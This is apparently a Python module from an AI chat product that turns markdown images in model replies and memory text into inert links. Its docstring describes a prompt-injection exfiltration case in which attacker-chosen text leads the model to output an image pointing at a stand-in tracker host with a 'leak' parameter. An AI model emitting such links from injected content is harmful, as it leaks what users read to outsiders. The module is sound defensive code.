"""Markdown that cannot make the browser load anything: for text Optimus did not write.

Model replies and memory text are rendered as markdown, and both can carry text an attacker
chose (a web page the model read, a message someone asked it to repeat, a memory planted through
the API). ``![](https://tracker.example/?leak=...)`` in such text made the reader's browser fetch
that address as soon as the page rendered, telling a stranger who read what, and when.

:func:`inert_markdown` keeps all formatting but turns every image into a plain link (a backslash
before the ``!``), outside code, where nothing is rendered anyway. Raw HTML needs nothing: the
pages render markdown without HTML, so ``<img>`` shows as text. :func:`inert_stream` does the
same for a reply while it streams.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator

_FENCE = re.compile(r"^ {0,3}(`{3,}|~{3,})")


def inert_markdown(text: str) -> str:
    """``text`` with every markdown image made a link; code blocks and code spans are left alone."""
    out: list[str] = []
    fence: str | None = None
    for line in text.splitlines(keepends=True):
        opening = _FENCE.match(line)
        if fence is not None:
            out.append(line)
            if opening and opening.group(1)[0] == fence[0] and len(opening.group(1)) >= len(fence):
                fence = None
            continue
        if opening:
            fence = opening.group(1)
            out.append(line)
            continue
        out.append(_inert_line(line))
    return "".join(out)


def _inert_line(line: str) -> str:
    out: list[str] = []
    i, n = 0, len(line)
    while i < n:
        char = line[i]
        if char == "`":  # a code span runs to the next run of exactly as many backticks
            run = len(line[i:]) - len(line[i:].lstrip("`"))
            closing = re.compile(r"(?<!`)" + "`" * run + r"(?!`)").search(line, i + run)
            if closing:
                out.append(line[i:closing.end()])
                i = closing.end()
                continue
            out.append(line[i:i + run])
            i += run
            continue
        if char == "\\":  # an escaped character stays as it is
            out.append(line[i:i + 2])
            i += 2
            continue
        if char == "!" and line.startswith("[", i + 1):
            out.append("\\!")
            i += 1
            continue
        out.append(char)
        i += 1
    return "".join(out)


def inert_stream(chunks: Iterable[str]) -> Iterator[str]:
    """The chunks of a streamed reply, with every image made a link as they arrive.

    While streaming, code is not told apart (a code span may close in a later chunk), so an image
    inside code shows its backslash until the finished reply is rendered by :func:`inert_markdown`.
    Trailing ``!`` and backslashes are held back until the next chunk shows what follows them, so
    an image cannot form across two chunks and a run of backslashes is never split.
    """
    pending = ""
    for chunk in chunks:
        pending += chunk
        ready = pending.rstrip("!\\")
        pending = pending[len(ready):]
        if ready:
            yield _escape_images(ready)
    if pending:
        yield _escape_images(pending)


def _escape_images(text: str) -> str:
    """Every ``![`` not already escaped becomes ``\\![`` (an even run of backslashes escapes nothing)."""
    return re.sub(r"(?<!\\)((?:\\\\)*)!\[", r"\1\\![", text)
